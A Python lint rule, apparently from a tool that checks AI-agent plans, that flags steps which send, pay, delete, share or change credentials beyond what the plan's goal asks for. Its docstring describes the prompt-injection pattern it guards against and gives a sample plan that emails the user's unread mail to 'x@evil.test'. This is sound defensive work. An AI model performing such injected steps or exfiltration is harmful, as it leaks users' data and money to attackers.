"""``GOAL_UNASKED_EFFECT``: a step sends, pays, deletes, shares or changes credentials though the goal asks for
none of that (goal alignment, :mod:`._alignment`)."""

from __future__ import annotations

import functools
import itertools
import re
from collections.abc import Iterator, Mapping, Sequence

from ...plan import ActionNode, Reference
from ...tools import tool_matches
from .._amounts import is_reversal
from .._context import LintContext
from .._delivery import addressed_to, app_named, goal_addresses, parties_named, people_named
from .._detect import is_reference_value, name_words, plan_text
from .._documents import may_elevate, may_grant, may_name_role, outer_path, public_grant, role_grant, thread_tool
from .._effects import CREDENTIAL_KEYS, IMPACT, ToolEffects, command_effects, command_key, credential_key
from .._findings import Finding, Severity
from .._intent import Intent, asked_effects, clock_times, orders_a_change, sees_to
from .._notice import _ASKS_ONLY, Subjects, _reaches, is_customary_notice
from .._provenance import Provenance
from .._registry import rule
from .._static import memo, norm_key, walk_params
from .._trusted import Trusted, target_kind
from ._alignment_amounts import _all_targets_trusted, _returns_found_payment
from ._alignment_common import (
    _active,
    _creates,
    _effects,
    _last_path_key,
    _literal_targets,
    _many,
    _quote,
    _severity,
    _shown,
    _text_links,
    _whole,
)
from ._alignment_intent import (
    _GRANT_HINT,
    _INTENT_HINT,
    _NOT_GRANTS,
    _READ,
    _REVOKES,
    _SCOPED,
    _SEND,
    _VALUE_HINT,
    _asks_new_code,
    _asks_public,
    _found_by_a_step,
    _link_only_sent,
    _names_any,
    _names_anyone,
    _names_given_object,
    _notifies,
    _renews_code,
    _said_words,
)
from ._alignment_records import _own_service_host


def _routine(tool: str, routine_effects: Mapping[str, Sequence[str]]) -> frozenset[str]:
    """The effects the policy's ``routine_effects`` declares routine for ``tool`` (every matching glob's)."""
    return frozenset(
        effect for pattern, effects in routine_effects.items() if tool_matches(tool, (pattern,)) for effect in effects
    )


@rule(
    "GOAL_UNASKED_EFFECT",
    "side-effect-not-in-goal",
    severity=Severity.WARNING,
    summary="A step sends, pays, deletes, shares or changes credentials though the goal asks for none of that.",
)
def side_effect_not_in_goal(ctx: LintContext) -> Iterator[Finding]:
    """What it does: classifies each action's tool by effect (``send``, ``financial``, ``destructive``,
    ``credentials``, ``share``; also ``read``, ``write``, ``external``), from the tool spec's ``effects``
    (``@plankit.tool(..., effects=[...])``, MCP annotations), the policy's ``tool_effects``, or the words of the
    tool's name (``email.send``, ``payments.transfer``, ``files.delete``, ``account.change_password``,
    ``drive.share``, ``bank.set_transfer_limit``, ``stripe.payouts.create``; the vocabulary is in
    docs/linting.md). It then reads which of those the goal asks for: words such as *send, email, reply, tell,
    post* ask to send; *pay, transfer, refund, redeem, buy, book* or an amount of money (``$40``) to move money;
    *delete, remove, cancel, deactivate, clean up* to destroy; *password, reset, 2fa, limit, security* to touch
    credentials or a safeguard; *share, invite, grant access, export, promote* to share (a negation just before
    a word cancels it); a task can imply an effect (*restart, replace, rotate* delete the object; *tidy up, take
    down* delete; *let X know, follow up, ask* send; *cover the bill, top up* pay). A step with a side effect the
    goal does not ask for is reported with the goal words it was checked against. Two readings go by value:
    a generic command tool (``executeCommand``, ``execute_sql``) does what its command says (``unlock``,
    ``DELETE ...``), and a value that opens something to everyone (``"Principal": "*"`` also inside a JSON
    string, a permission of type ``anyone``, ``public-read``, ``BlockPublicAcls: false``) is a share that only
    *share, publish, make ... public* ask for, and a role with control given by value (``role: admin``,
    ``type: TeacherEnrollment``) is a share only a goal asking to share allows. A notification (``notify.*``,
    ``push.*``) that names no one reports back to the user and needs no send word. ``write`` and ``external``
    are not judged by intent (nearly every goal writes something); their targets are checked by
    ``GOAL_UNTRUSTED_TARGET``. Nor is, in a goal that asks for a change, a send or a payment whose every target
    is trusted (in the goal, the context or ``trusted_values``, or an untainted field a step read; not a list
    of everyone a listing returned) and whose text holds no address, link or phone number nor a whole output:
    the customer told the car is ready, the refund of a cancelled contract; nor, in a goal that asks to send, a
    charge whose output a send delivers (*send the invoice*), nor, in any goal, a message only to people the goal
    names by the addresses the context gives them (*summarize the callbacks for Adaeze*). A delete the goal asks
    for, written whole by the plan, must name something the goal says or an id the user gave: a delete of
    another site in a "void the tickets at Fifth & Vine" plan is reported. Runs only when the plan has a
    ``goal``; ``goal_alignment: off`` turns it off,
    ``error`` makes its findings errors.

    Why is this bad: this is the shape of a prompt injection. The agent read text an attacker wrote (an email,
    a web page, a document) and added steps that serve the attacker: forward the inbox, pay an invoice nobody
    asked about, delete the evidence, reset a password. The tools are allowed, so only the goal shows the
    step does not belong.

    Example:
        {"goal": "Summarise my unread email",
         "steps": [{"id": "read", "tool": "email.search", "args": {"query": "is:unread"}},
                   {"id": "fwd", "tool": "email.send", "args": {"to": "x@evil.test", "body": "{{read.result}}"}}]}

    Use instead: remove the step; if the user did ask for it, say so in the goal ("... and email the summary
    to me"), or declare the tool's real effects.
    """
    if not _active(ctx):
        return
    intent: Intent = asked_effects(ctx.plan.goal or "")
    effects_of = _effects(ctx)
    unasked: dict[str, tuple[frozenset[str], str]] = {}
    command_tools: set[str] = set()
    open_tools: set[str] = set()
    implied_tools: dict[str, tuple[str, str]] = {}
    asked_deletes: dict[str, str] = {}
    implied = [effect for effect in ("destructive", "credentials") if intent.only_implied(effect)]
    routine_effects = ctx.policy.routine_effects
    for tool in ctx.tools_used:  # decided once per tool, not per step
        effects, source = effects_of.of(tool)
        if routine_effects:
            # The deployment declares these routine for the tool (the policy's ``routine_effects``): the goal
            # need not ask for them, in words or by implication. Where they go is still checked by the target
            # rules, and a value that opens something to everyone is still read below.
            effects = effects - _routine(tool, routine_effects)
        kinds = frozenset(effect for effect in effects & IMPACT if not intent.asks(effect))
        if "send" in kinds and app_named(ctx.plan.goal or "", tool):
            kinds -= _SEND  # *put it in Slack*: the goal names the app a message goes by (round 9)
        if kinds:
            unasked[tool] = kinds, source
            continue
        if effects != _READ:
            if not effects & _NOT_GRANTS:
                open_tools.add(tool)  # a configuration write (or an unknown tool) may open something to everyone
            if command_key(tool, effects):
                command_tools.add(tool)
            kind = next((effect for effect in implied if effect in effects), None)
            if kind is not None:
                implied_tools[tool] = kind, source
            elif "destructive" in effects and intent.asks("destructive"):
                asked_deletes[tool] = source
    # A delete the goal only implies (*restart, replace, rotate*) must be of something the goal names or a step
    # found: deleting the broken pod passes, deleting a backup bucket in a "restart the api" plan does not. So
    # must a credential it only implies (*make a door code for the walker*): a second code for someone else not.
    beyond: list[tuple[ActionNode, str]] = []
    if implied_tools:
        named = intent.object_words() | clock_times(ctx.plan.goal or "")
        references = ctx.graph.references
        for action, path in ctx.actions_of(implied_tools):
            if implied_tools[action.tool][0] == "credentials" and not (
                _creates(action.tool) or (_asks_new_code(intent) and _renews_code(action.tool))
            ):
                beyond.append((action, path))  # *make a code* asks for a new one, not an unlock or a reset
            elif not _found_by_a_step(references.get(action.id, ()), ctx, named) and not _names_any(action, named):
                beyond.append((action, path))
    if beyond and "destructive" in implied:
        # An implied delete is never judged more strictly than an unasked one (round 9): a cancel confined to
        # the object the goal names passes either way (*Eun-ji can't teach today - sort out their students*).
        provenance = memo(ctx, "provenance", lambda: Provenance(ctx, effects_of))
        scoped = {tool: frozenset({kind}) for tool, (kind, _) in implied_tools.items() if kind == "destructive"}
        confined = Subjects(ctx, effects_of, scoped, provenance).confined
        beyond = [(action, path) for action, path in beyond if action.id not in confined]
    # A delete the goal asks for, written whole by the plan (no step found what it deletes), must name what the
    # goal names: *void the tickets at Fifth & Vine* deletes there, not the transactions of another site.
    stray: list[tuple[ActionNode, str]] = []
    if asked_deletes:
        spoken = _said_words(ctx.plan.goal or "")
        # The goal's own effect words (*delete*, *void*) say what is done, not to what: ``spire_delete_collection``
        # names no object of "delete the overdue notices".
        verbs = {word for phrases in intent.asked.values() for phrase in phrases for word in phrase.split()}
        references = ctx.graph.references
        for action, path in ctx.actions_of(asked_deletes):
            if (
                action.params
                and not any(ref.is_step for ref in references.get(action.id, ()))
                and not spoken.intersection(set(name_words(action.tool)) - verbs)
                and not _names_any(action, spoken)
                and not _names_given_object(ctx, action, path)
            ):
                stray.append((action, path))
    # A generic command tool (``executeCommand``) does what its command argument says (``unlock``).
    commands: list[tuple[ActionNode, str, tuple[str, str, frozenset[str]]]] = []
    for action, path in ctx.actions_of(command_tools):
        said = command_effects(action.params) if action.params else None
        if said is not None and any(not intent.asks(effect) for effect in said[2] & IMPACT):
            commands.append((action, path, said))
    # A value that opens something to everyone (``"Principal": "*"``, ``type: anyone``) shares, whatever the
    # tool is called; looked for only in steps of tools not already reported, when the plan could hold one.
    grants: list[tuple[ActionNode, str, tuple[str, str]]] = []
    if open_tools and not _asks_public(intent):
        text = plan_text(ctx)
        if may_grant(text.text, text.keys):
            for action, path in ctx.actions_of(open_tools):
                grant = (
                    public_grant(action.params, f"{path}.params", thread=thread_tool(action.tool))
                    if action.params
                    else None
                )
                if grant is not None and not _link_only_sent(ctx, intent, action, effects_of):
                    grants.append((action, path, grant))
    # A role with control given to someone (``type: TeacherEnrollment``, ``role: admin``) shares, whatever the
    # tool is called; only a goal that asks to share (*give Dana admin*, *invite*, *onboard*) asks for it, not
    # one that only asks to add a member (*put Tom on the roster*).
    roles: list[tuple[ActionNode, str, tuple[str, str]]] = []
    if (
        open_tools
        and not intent.asks_control()
        and may_elevate(plan_text(ctx).text)
        and may_name_role(plan_text(ctx).keys)  # no role-like key anywhere: no step gives a role
    ):
        for action, path in ctx.actions_of(open_tools):
            role = role_grant(action.params, f"{path}.params") if action.params else None
            if role is not None:
                roles.append((action, path, role))
    # A step that sets a password or a login key (``ALTER_USER(rsa_public_key=...)``) changes credentials,
    # whatever its tool is called; looked for only when the plan has such an argument name at all.
    keyed: list[tuple[ActionNode, str, str]] = []
    keys = plan_text(ctx).keys if open_tools and not intent.asks("credentials") else ()
    if any(norm_key(key) in CREDENTIAL_KEYS for key in keys):
        for action, path in ctx.actions_of(open_tools):
            key = credential_key(action.params) if action.params else None
            if key is not None:
                keyed.append((action, path, key))
    if not unasked and not grants and not commands and not beyond and not roles and not keyed and not stray:
        return
    asked = sorted({word for words in intent.asked.values() for word in words})
    checked = f"it asks for: {', '.join(asked)}" if asked else "it asks for no side effect"
    tail = f"which the goal does not ask for ({checked}; goal: {_quote(ctx.plan.goal or '')})"
    severity = _severity(ctx)
    subjects: Subjects | None = None
    change: bool | None = None
    # Round 11 (T): tools that are a credential only by a name that makes what the goal asks to send; per tool.
    documents = {
        tool
        for tool, (kinds, source) in unasked.items()
        if kinds == _CREDENTIALS and source == "tool name" and _names_made_thing(ctx.plan.goal or "", tool)
    }
    for action, path in ctx.actions_of(unasked):
        kinds, source = unasked[action.tool]
        if kinds == _SEND and _notifies(action.tool) and not _names_anyone(action):
            continue  # a notification naming no one reaches the user who runs the plan: it reports back
        if kinds in (_SEND, _REVOKES) or kinds <= _SCOPED:
            # Telling the party whose record the plan changes (*your membership is on hold*) is how the change
            # the goal asks for is carried out, and so is a cancel or removal confined to the object it asks to
            # change (the overlock lifted on the unit it names); only those, about that object, pass.
            provenance = memo(ctx, "provenance", lambda: Provenance(ctx, effects_of))
            if subjects is None:
                subjects = Subjects(ctx, effects_of, {tool: kinds for tool, (kinds, _) in unasked.items()}, provenance)
            if action.id in subjects.confined or (
                kinds == _SEND and is_customary_notice(ctx, action, path, subjects, provenance)
            ):
                continue
            if kinds == _SEND and _tells_named_party(ctx, action, path, subjects, provenance):
                continue  # round 11 (T): *get the client scheduled*: the client of the record the goal names
            if kinds == _DESTRUCTIVE and intent.asks("financial") and _closes_refunded_record(ctx, action, path):
                continue  # round 11 (T): the package whose unused lessons the goal refunds is closed
        if documents and action.tool in documents and _document_to_send(ctx, action, path, effects_of):
            continue  # round 11 (T): *send out yesterday's certs*: the certificate made is the document sent
        if kinds <= _FOLLOWS:
            if change is None:
                change = _goal_asks_change(ctx)  # once per call, only for plans with such a step
            if (change or _made_to_send(ctx, intent, action, effects_of)) and _all_targets_trusted(ctx, action, path):
                continue
            if kinds == _FINANCIAL and _gift_to_send(ctx, intent, action, path, effects_of):
                continue  # round 11 (T): the voucher the asked thank-you carries, to the party it thanks
            if kinds == _SEND and _delivers_to_named(ctx, action, path):
                continue  # what the goal asks to make, for a person it names, delivered to that person
            if kinds == _FINANCIAL and sees_to(intent) and _returns_found_payment(ctx, action, path):
                continue  # *sort out the guests*: what a step found they paid goes back to them (round 10, B)
        yield Finding(
            f"'{action.id}' calls {action.tool} ({_shown(kinds)}, from its {source}), {tail}",
            node_id=action.id,
            path=f"{path}.tool",
            hint=_INTENT_HINT,
            severity=severity,
        )
    for action, path in beyond:
        kind, source = implied_tools[action.tool]
        why = (
            "on nothing the goal names or a step found; the goal implies a delete only of what it names"
            if kind == "destructive"
            else "but is not the new credential the goal asks to make, for whom it names"
        )
        yield Finding(
            f"'{action.id}' calls {action.tool} ({kind}, from its {source}) {why} ({checked}; goal: "
            f"{_quote(ctx.plan.goal or '')})",
            node_id=action.id,
            path=f"{path}.tool",
            hint=_INTENT_HINT,
            severity=severity,
        )
    for action, path in stray:
        yield Finding(
            f"'{action.id}' calls {action.tool} (destructive, from its {asked_deletes[action.tool]}) on nothing the "
            f"goal names or a step found; the goal asks to delete only what it names ({checked}; goal: "
            f"{_quote(ctx.plan.goal or '')})",
            node_id=action.id,
            path=f"{path}.tool",
            hint=_INTENT_HINT,
            severity=severity,
        )
    for action, path, (key, command, effects) in commands:
        kinds = frozenset(effect for effect in effects & IMPACT if not intent.asks(effect))
        yield Finding(
            f"'{action.id}' calls {action.tool} with {key} {_quote(command)} ({_shown(kinds)}, from the command's "
            f"name), {tail}",
            node_id=action.id,
            path=f"{path}.params.{key}",
            hint=_VALUE_HINT,
            severity=severity,
        )
    for action, path, key in keyed:
        yield Finding(
            f"'{action.id}' calls {action.tool} with {key}, which sets a password or a login key (credentials), "
            f"{tail}",
            node_id=action.id,
            path=f"{path}.params.{key}",
            hint=_VALUE_HINT,
            severity=severity,
        )
    for action, _path, (where, given) in roles:
        yield Finding(
            f"'{action.id}' calls {action.tool} with {given} ({where}), which gives a role with control (share), "
            f"{tail}",
            node_id=action.id,
            path=where,
            hint=_VALUE_HINT,
            severity=severity,
        )
    for action, _path, (where, opened) in grants:
        yield Finding(
            f"'{action.id}' calls {action.tool} with {opened} ({where}), which opens it to everyone (share), {tail}",
            node_id=action.id,
            path=outer_path(where),
            hint=_GRANT_HINT,
            severity=severity,
        )


_FOLLOWS = frozenset({"send", "financial"})


def _goal_asks_change(ctx: LintContext) -> bool:
    """Whether the goal asks for a change: not a question or a summary, nor a goal that only asks to send."""
    goal = ctx.plan.goal or ""
    asked = asked_effects(goal).asked
    if _ASKS_ONLY.match(goal.lower()):
        return False
    # A goal that only asks to send (*reply to Bob's mail*) asks no change, unless it also orders something done
    # to an object (*Overlock every unit and get the notices out*), whatever verb it uses.
    return not (asked and asked.keys() <= {"send"}) or orders_a_change(goal)


_FINANCIAL = frozenset({"financial"})


_DESTRUCTIVE = frozenset({"destructive"})
_ENDS = frozenset(
    {"close", "closes", "cancel", "cancels", "end", "ends", "expire", "expires", "terminate", "deactivate"}
)
"""Name words of a tool that ends a record (it stays, closed): not one that deletes or wipes it."""


def _closes_refunded_record(ctx: LintContext, action: ActionNode, path: str) -> bool:
    """Round 11 (T): whether an unasked close is of the record whose payment a refund the goal asks for returns:
    a refund of what is left of a package, a membership or a booking ends it. The close tool's name ends a record
    (*close, cancel, end, expire*; never *delete*), and every value it takes is a field of the same record that a
    refund step of the plan takes its payment from (``{{pkg.result.packages[0].id}}`` beside the refund's
    ``{{pkg.result.packages[0].payment_id}}``) and that record's own id, not another object it names (the
    reader's account); a literal it writes is no target (a reason, a status)."""
    if not action.params or not _ENDS.intersection(name_words(action.tool)):
        return False
    references = ctx.graph.references
    refunded: set[tuple[str, str]] = set()
    for node in ctx.graph.nodes.values():
        if isinstance(node, ActionNode) and node.id != action.id and is_reversal(node.tool):
            refs = references.get(node.id, ())
            refunded |= {(ref.root, _record(ref.path)) for ref in refs if ref.is_step and "." in ref.path}
    if not refunded:
        return False
    own = [ref for ref in references.get(action.id, ()) if ref.is_step]
    if not own or any((ref.root, _record(ref.path)) not in refunded or not _own_id(ref.path) for ref in own):
        return False  # another record, or another object named in it (``{{pkg.result.passes[0].reader_account}}``)
    return all(
        is_reference_value(value) or target_kind(key) is None
        for key, value, _where in walk_params(action.params, f"{path}.params", None)
        if not isinstance(value, dict | list)
    )


_FIELD_WORD = re.compile(r"[a-z]+")
_NOT_PARTY_WORDS = frozenset(
    {"result", "results", "data", "email", "emails", "mail", "address", "phone", "mobile", "contact", "primary", "main"}
)
_URL = re.compile(r"(?:https?://)([^\s/?#\"'<>)]+)[^\s\"'<>)]*")


def _tells_named_party(
    ctx: LintContext, action: ActionNode, path: str, subjects: Subjects, provenance: Provenance
) -> bool:
    """Round 11 (T): whether an unasked send only tells the party the task is about, with nothing from elsewhere:
    every recipient is a field of a step that read the record the goal names (``RL-4909``), under a field the goal
    names the party by (*get the client scheduled*: ``{{project.result.client.email}}``), written by nobody
    outside (:class:`Provenance`), one value; every other step value it carries is a field of those same reads;
    its literal targets are ones the user gave; its text gives no address or phone number, and every link in it
    is to a host the plan trusts. The party already holds that record; the message can only tell them about it."""
    if not action.params or not subjects.reads:
        return False
    said = {word for word in _FIELD_WORD.findall((ctx.plan.goal or "").lower()) if len(word) >= 4} - _NOT_PARTY_WORDS
    located: dict[str, list[Reference]] = {}
    for ref in ctx.graph.references.get(action.id, ()):
        if not ref.is_step:
            continue
        if ref.root not in subjects.reads or provenance.origin(ref) is not None or _many(ref) or _whole(ref):
            return False  # it carries what another step read or made, or a value someone else wrote
        located.setdefault(ref.location, []).append(ref)
    trusted: Trusted = memo(ctx, "trusted_values", lambda: Trusted(ctx))
    addressed = False
    for key, value, where in walk_params(action.params, f"{path}.params", None):
        if isinstance(value, dict | list):
            continue
        kind = target_kind(key)
        refs = located.get(where, ())
        if kind is not None:
            if refs:
                if not is_reference_value(value):
                    return False  # ``{{p.result.login}}@elsewhere``: goes where its literal part says
                if any(not said & _party_words(ref.path) for ref in refs):
                    return False  # not the party the goal names (*the client*) of that record
                addressed = True
            elif value not in (None, "") and not trusted.trusts(kind, value):
                return False
        elif isinstance(value, str) and not is_reference_value(value):
            text = _URL.sub(lambda m: " " if _trusted_host(ctx, trusted, m.group(1)) else m.group(0), value)
            if _reaches(ctx, text):
                return False  # an address, a phone number or a link to a host nobody gave
    return addressed


def _party_words(path: str) -> set[str]:
    """The words that say whose a field is: the keys above it (``client`` of ``result.client.email``) and the
    first words of its own key (``customer`` of ``result.customer_email``), not its own last word (a mail's
    ``from`` is no party of the record the goal names)."""
    keys = [key.partition("[")[0].lower() for key in path.split(".")]
    words = {word for key in keys[:-1] for word in _FIELD_WORD.findall(key)}
    words.update(_FIELD_WORD.findall(keys[-1])[:-1])
    return words - _NOT_PARTY_WORDS


def _trusted_host(ctx: LintContext, trusted: Trusted, host: str) -> bool:
    host = host.rsplit("@", 1)[-1].split(":", 1)[0].lower()
    return trusted.trusts("link", host) or _own_service_host(ctx, host)


def _own_id(path: str) -> bool:
    """Whether a field path is the id of the record it is in (``result.passes[0].id``, ``result.pass_id`` of a
    record read whole), not the id of another object the record names (``reader_account``, ``owner_id``)."""
    record, _, key = path.rpartition(".")
    if key in ("id", "uuid"):
        return True
    words = set(_FIELD_WORD.findall(record.lower())) - {"result", "results", "data"}
    stem = key[:-3] if key.endswith("_id") else ""
    return bool(stem) and any(word == stem or word == stem + "s" for word in words)


def _record(path: str) -> str:
    """The record a field path is in (``result.packages[0]`` of ``result.packages[0].payment_id``)."""
    return path.rpartition(".")[0]


def _delivers_to_named(ctx: LintContext, action: ActionNode, path: str) -> bool:
    """Whether a message goes only to people the goal names and the context lists (*summarize the callbacks for
    Adaeze*: to Adaeze's address; *the pick list for Dario Delacroix's run*: to his handle), by literal targets,
    with no other way to reach anyone in its text: the delivery of what the goal asks to make for them, in any
    goal (a question included). Its text may be the plan's own product (a model's summary)."""
    if not action.params:
        return False
    people: dict[str, str] = memo(ctx, "people_named", lambda: people_named(ctx.plan.goal or "", ctx.plan.context))
    people = {**people, **goal_addresses(ctx.plan.goal or "")}  # *caterer (events@...) ... update them*
    parties: dict[str, str] = memo(ctx, "parties_named", lambda: parties_named(ctx.plan.goal or "", ctx.plan.context))
    people = {**people, **parties}  # round 11 (T): *file the report with the state*: the context's address for it
    if not people:
        return False
    targets = [
        (kind, shown)
        for kind, shown, _where in itertools.chain(
            _literal_targets(walk_params(action.params, f"{path}.params", None)), _text_links(action, path)
        )
    ]
    if not addressed_to(targets, people):
        return False
    for key, value, _where in walk_params(action.params, f"{path}.params", None):
        if not isinstance(value, str):
            continue
        if target_kind(key) is not None:
            if is_reference_value(value) or "{{" in value:
                return False  # a recipient read at run time: not one the goal names
        elif not is_reference_value(value) and _reaches(ctx, value):
            return False  # its text gives another way to reach someone: an address, a link, a phone number
    return True


_STORED_VALUE = frozenset(
    {"gift", "gifts", "giftcard", "giftcards", "voucher", "vouchers", "coupon", "coupons"}
    | {"certificate", "certificates"}
)
"""Name words of a tool that issues money's worth as a code (a gift card, a voucher, a coupon)."""


def _gift_to_send(
    ctx: LintContext, intent: Intent, action: ActionNode, path: str, effects_of: ToolEffects
) -> bool:
    """Round 11 (T): whether the step issues a gift card or a voucher (its tool's name makes one) that only the
    sends the goal asks for carry, each to targets nobody else chose: *send the owner our usual thank-you: two
    ride vouchers*. The step itself names no recipient, account or link (its value is what it is worth, not where
    money goes); every step that reads its output is a send, and each of those has all its targets trusted
    (:func:`_all_targets_trusted`). A voucher whose code goes anywhere else (a model, a post, an address nobody
    gave) is still reported."""
    if not intent.asks("send") or not action.params or not _creates(action.tool):
        return False
    if not _STORED_VALUE.intersection(name_words(action.tool)):
        return False
    for kind, _value, _where in _literal_targets(walk_params(action.params, f"{path}.params", None)):
        if kind != "amount":
            return False
    if any(ref.is_step for ref in ctx.graph.references.get(action.id, ())):
        return False  # its value or holder read from a step: not the plan's own gift
    return _carried_only_by_sends(ctx, action, effects_of)


def _carried_only_by_sends(ctx: LintContext, action: ActionNode, effects_of: ToolEffects) -> bool:
    """Whether some step reads the action's output and every step that does is a send whose targets are all
    trusted (:func:`_all_targets_trusted`): what the action makes goes only where the plan was told to send."""
    readers = 0
    for node, node_path in ctx.actions:
        if not any(ref.root == action.id for ref in ctx.graph.references.get(node.id, ())):
            continue
        if (effects_of.of(node.tool)[0] & IMPACT) != _SEND or not _all_targets_trusted(ctx, node, node_path):
            return False
        readers += 1
    return readers > 0


_CREDENTIALS = frozenset({"credentials"})
_MAKING = frozenset({"create", "generate", "make", "issue", "new", "build", "render", "produce", "get"})


@functools.lru_cache(maxsize=1024)
def _names_made_thing(goal: str, tool: str) -> bool:
    """Round 11 (T): whether the goal asks to send the thing a tool's name says it makes (*send out yesterday's
    certs* for ``GENERATE_CERTIFICATE``): the name makes something (*generate, create, issue*), and a word of what
    it makes is the start of a word of the goal or the other way round (*certs*, *certificate*; the first of
    three or more name words is the vendor). A reset, a rotation or an unlock makes nothing. Cached by goal and
    tool, as the goal's reading is."""
    intent = asked_effects(goal)
    if not intent.asks("send"):
        return False
    words = name_words(tool)
    if _MAKING.isdisjoint(words):
        return False
    made = [word for word in (words[1:] if len(words) > 2 else words) if len(word) >= 4 and word not in _MAKING]
    said = [word[:-1] if word.endswith("s") else word for word in intent.words if len(word) >= 4]
    return any(word.startswith(thing) or thing.startswith(word) for word in made for thing in said)


def _document_to_send(ctx: LintContext, action: ActionNode, path: str, effects_of: ToolEffects) -> bool:
    """Round 11 (T): whether a step that reads as a credential only by its tool's name, and makes the thing the
    goal asks to send (:func:`_names_made_thing`), is that document: its literal targets are all trusted, and
    only sends with trusted targets read what it makes (:func:`_carried_only_by_sends`). A key or a token mailed
    to an address nobody gave is still reported, and so is any credential a tool's spec or the policy declares."""
    if not action.params:
        return False
    trusted: Trusted = memo(ctx, "trusted_values", lambda: Trusted(ctx))
    for kind, value, _where in _literal_targets(walk_params(action.params, f"{path}.params", None)):
        if not trusted.trusts(kind, value):
            return False
    return _carried_only_by_sends(ctx, action, effects_of)


def _made_to_send(ctx: LintContext, intent: Intent, action: ActionNode, effects_of: ToolEffects) -> bool:
    """Whether the step makes what a send the goal asks for delivers (*send the invoice*: the invoice is
    created, then sent): a later step that only sends names the step's output as the object it sends
    (``invoice_id: {{inv.result.id}}``). Asked for in a goal that asks to send, like the send itself."""
    if not intent.asks("send"):
        return False
    for node in ctx.graph.nodes.values():
        if not isinstance(node, ActionNode) or (effects_of.of(node.tool)[0] & IMPACT) != _SEND:
            continue
        for ref in ctx.graph.references.get(node.id, ()):
            key = _last_path_key(ref.location.partition(".params.")[2])
            if ref.root == action.id and key and target_kind(key) in ("object", None):
                return True  # as its object, or attached or quoted (``attachment: {{inv.result.pdf_url}}``)
    return False
